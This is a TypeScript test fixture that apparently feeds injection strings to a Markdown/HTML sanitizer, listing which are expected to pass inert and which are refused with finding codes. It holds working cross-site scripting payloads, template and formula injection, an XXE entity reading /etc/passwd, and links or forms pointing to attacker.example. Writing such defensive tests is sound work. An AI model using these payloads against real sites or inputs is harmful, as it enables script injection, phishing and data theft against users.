/** Called by an attack that gets through; a page that holds the result has been taken over. */
const strike = "window.attacked='yes'";

/**
 * Texts that try to become more than text, in groups that stand in one field together. Within a group none may end
 * another: what an unclosed sign swallows would not be tried.
 */
export const attacks: Readonly<Record<string, readonly string[]>> = {
  'elements of HTML': [
    `<script>${strike}</script>`,
    `<img src=x onerror="${strike}">`,
    `<svg onload="${strike}"><script>${strike}</script></svg>`,
    `<svg><foreignObject><body onload="${strike}"></foreignObject></svg>`,
    `<iframe srcdoc="<script>parent.${strike}</script>"></iframe>`,
    `<details open ontoggle="${strike}">x</details>`,
    `<form action="https://attacker.example/"><input name=p><button>Sign in</button></form>`,
    '<style>body{background:url(https://attacker.example/css)}</style>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/a.css">',
  ],
  'ends of what surrounds them': [
    `"><script>${strike}</script>`,
    `' onmouseover='${strike}' x='`,
    `" autofocus onfocus="${strike}" x="`,
    `</script><script>${strike}</script>`,
    `</title><script>${strike}</script>`,
    `</textarea></select></style><img src=x onerror=${strike}>`,
    ']]><!-- --><script>window.attacked=1</script>',
    `\\u003c/script\\u003e<script>${strike}</script>`,
    `&lt;script&gt;${strike}&lt;/script&gt; &#x3c;img src=x onerror=${strike}&#x3e;`,
  ],
  'addresses that are allowed': [
    `[j](https://harmless.example/"onmouseover="${strike})`,
    `[k](https://harmless.example/ "title\\" onmouseover=\\"${strike}")`,
    `[l](https://harmless.example/?q=%22%3E%3Cscript%3E${strike}%3C/script%3E)`,
    `[m](mailto:clerk@attacked.example?subject=%22%3E%3Cscript%3E)`,
    `https://harmless.example/<script>${strike}</script>`,
  ],
  'languages of templates and data': [
    `{{ constructor.constructor("${strike}")() }} {% set x = 1 %}{# x #}`,
    `\${${strike}} <%= 7*7 %> #{7*7} {{7*7}}`,
    '__proto__ constructor prototype toString',
    'BEGIN:VEVENT END:VCALENDAR, with; commas\\, and \\n slashes',
    '=HYPERLINK("https://attacker.example/","Click") +1+1 -1 @SUM(1)',
    '(unbalanced) brackets \\( in PDF strings >> endobj << /JS (app.alert(1)) >>',
    ']]> <![CDATA[ <?xml version="1.0"?> <!ENTITY x SYSTEM "file:///etc/passwd"> &x;',
  ],
  'signs that are not seen': [
    'left\u202Eright\u202C \u2066isolated\u2069 \u200Bzero\u200Dwidth \uFEFFmark',
    'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307 tall, \u{1F468}\u200D\u{1F469}\u200D\u{1F467} together',
    '\u2028line\u2029paragraph thin\u2009space \u00A0space \u00ADhyphen',
    '<\u0000script>window.attacked=1</script>'.replace('\u0000', '\u200B'),
  ],
};

/** Texts for the bodies of files, each a block of its own. */
export const bodyAttacks: readonly string[] = [
  ...Object.values(attacks).flat(),
  `| a | b |\n|---|---|\n| <script>${strike}</script> | <img src=x onerror=${strike}> |`,
  `> <img src=x onerror=${strike}>\n> - <b onclick=${strike}>x</b>`,
  `## <svg onload=${strike}>`,
  `Footnote[^1].\n\n[^1]: <script>${strike}</script>`,
  `term <script>${strike}</script>\n: definition <img src=x onerror=${strike}>`,
  '```html\n<script>window.attacked=1</script>\n```',
  `<div>\n\n*inside* <script>${strike}</script>\n\n</div>`,
];

/** Texts that are refused wherever they stand, each with the code of the finding. */
export const refusedAttacks: readonly (readonly [text: string, code: string])[] = [
  [`[a](javascript:${strike})`, 'LINK_ADDRESS_REFUSED'],
  [`[b](JaVaScRiPt:${strike})`, 'LINK_ADDRESS_REFUSED'],
  [`[c](&#106;avascript:${strike})`, 'LINK_ADDRESS_REFUSED'],
  [`[d](<java&Tab;script:${strike}>)`, 'LINK_PAGE_UNKNOWN'],
  [`[e](<javascript:${strike}>)`, 'LINK_ADDRESS_REFUSED'],
  ['[f](vbscript:msgbox(1))', 'LINK_ADDRESS_REFUSED'],
  ['[g](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'LINK_ADDRESS_REFUSED'],
  ['[h](file:///etc/passwd)', 'LINK_ADDRESS_REFUSED'],
  ['[i](//attacker.example/path)', 'LINK_ADDRESS_REFUSED'],
  [`<javascript:${strike}>`, 'LINK_ADDRESS_REFUSED'],
  [`[text][r]\n\n[r]: javascript:${strike}`, 'LINK_ADDRESS_REFUSED'],
  [`![j](javascript:${strike})`, 'IMAGE_EXTERNAL'],
  [`![k](data:image/svg+xml,%3Csvg%20onload=%22${strike}%22%3E)`, 'IMAGE_EXTERNAL'],
  ['![l](https://attacker.example/pixel.gif)', 'IMAGE_EXTERNAL'],
  [`Text {onclick="${strike}"}`, 'ATTRIBUTE_REFUSED'],
  ['Text {style="background:url(https://attacker.example/)"}', 'ATTRIBUTE_REFUSED'],
  ['[text](https://harmless.example){href="javascript:1"}', 'ATTRIBUTE_REFUSED'],
];
